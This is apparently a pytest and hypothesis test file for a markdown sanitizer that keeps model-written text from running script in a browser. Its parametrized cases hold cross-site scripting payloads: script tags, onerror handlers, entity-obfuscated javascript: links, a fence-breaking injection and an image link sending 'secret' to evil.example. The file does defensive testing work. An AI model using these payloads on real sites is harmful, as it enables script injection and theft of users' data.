"""Nothing that a model writes may run in the browser."""

import re
from html import unescape

import mistune
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bago_jupyter.magics.markdown import safe

OURS = re.compile(r"</?code>|</?pre>|<code class=\"language-[\w+#.-]*\">")
TAG = re.compile(r"<[A-Za-z/!?]")
PIECES = [
    *(
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<",
        "&",
        "!",
        "[a](",
        "javascript:x)",
        ")",
    ),
    *("javascript\\:", "java", "script:", "&colon;", "&#58;", "&am", "p;", "![i](http://e/x)", "]: ", "<!--"),
    *(
        "`",
        "``",
        "```",
        "~~~",
        "```html\n",
        "\n```\n",
        "\n",
        "\n\n",
        "    ",
        "  ",
        "\t",
        "- ",
        "> ",
        "1. ",
        "$",
    ),
    *(
        "$$",
        "\\(",
        "\\)",
        "\\[",
        "\\]",
        '[f]: /u "',
        '"',
        "\\",
        "x",
        "a<b",
        "<b>",
        "pre",
        "</code></pre>",
        "é",
    ),
]


@settings(max_examples=1500, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=30).map("".join))
def test_only_our_own_two_tags_are_left(text):
    shown = safe(text)
    assert not TAG.search(OURS.sub(" ", shown)), shown
    assert not re.search(r"(?:java|vb)script\\?:", shown, re.IGNORECASE), shown
    assert "![" not in shown
    assert set(re.findall(r"&(?:#\d+|\w+);", shown)) <= {"&lt;"} | {f"&#{n};" for n in range(128)}


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<SCRIPT\n>alert(1)</SCRIPT\n>",
        '[f]: /u "\n```\n"\n<script>alert(1)</script>\n',
        "- a\n  ```\n<script>alert(1)</script>\n",
        "$$\n```\n$$\n<script>alert(1)</script>",
        "`<b>` <!-- ` --> <iframe src=javascript:alert(1)>",
        "[x](javascript:alert(1)) [x](java&#115;cript:alert(1)) [x](<javascript:alert(1)>)",
        "[x]: javascript&colon;alert(1)\n\n[x]",
        "[x](javascript&amp;colon;alert(1)) [x](javascript&amp;amp;colon;alert(1))",
        "![x](http://evil.example/?q=secret)",
        "```html onload=<script>\n</code></pre><script>alert(1)</script>\n```",
    ],
)
def test_attacks_through_a_renderer_that_lets_html_pass(attack):
    html = mistune.create_markdown(escape=False, plugins=["table", "math", "footnotes"])(safe(attack))
    tags = set(re.findall(r"<\s*/?\s*([A-Za-z!][\w-]*)", html))
    assert tags <= {
        "p",
        "blockquote",
        "ul",
        "li",
        "pre",
        "code",
        "a",
        "em",
        "div",
        "span",
        "br",
        "section",
        "ol",
        "sup",
    }, html
    assert not re.search(r"href=\"\s*(javascript|vbscript):", html, re.IGNORECASE), html
    assert not re.search(r"<[^>]*\son\w+=", html), html


@pytest.mark.parametrize(
    "text",
    [
        "# Title\n\n- *a* **b** `c` [d](https://e.f/?g=1&h=2)\n\n| a | b |\n|---|---|\n| 1 | 2 |\n",
        "```python\nif a < b and c <= d:\n    return x & y\n```\n",
        "$a < b$ and $$\\frac{1}{2}$$ & 3 < 4, AT&T!",
        "",
    ],
)
def test_ordinary_markdown_is_untouched(text):
    assert safe(text) == text


def test_html_is_shown_as_text():
    html = mistune.create_markdown(escape=False)(
        safe("Use `<div>` and <b>, like\n\n```html\n<p>a</p>\n<i>\n```\nend")
    )
    text = unescape(re.sub(r"</?(?:p|pre|code)\b[^>]*>", "", html))
    assert " ".join(text.split()) == "Use <div> and <b>, like <p>a</p> <i> end"


def test_code_in_a_list_keeps_its_lines():
    shown = safe("1. Do:\n   ```html\n   <p>\n     <b>\n   ```\n2. Then")
    assert '\n   <pre><code class="language-html">&#60;p&#62;&#10;  &#60;b&#62;</code></pre>\n' in shown


def test_a_formula_is_not_given_entities():
    assert safe("$a<b$ and $n![k]$") == "$a< b$ and $n! [k]$"


def test_an_open_fence_is_code():
    assert safe("```html\n<script>") == '<pre><code class="language-html">&#60;script&#62;</code></pre>\n'
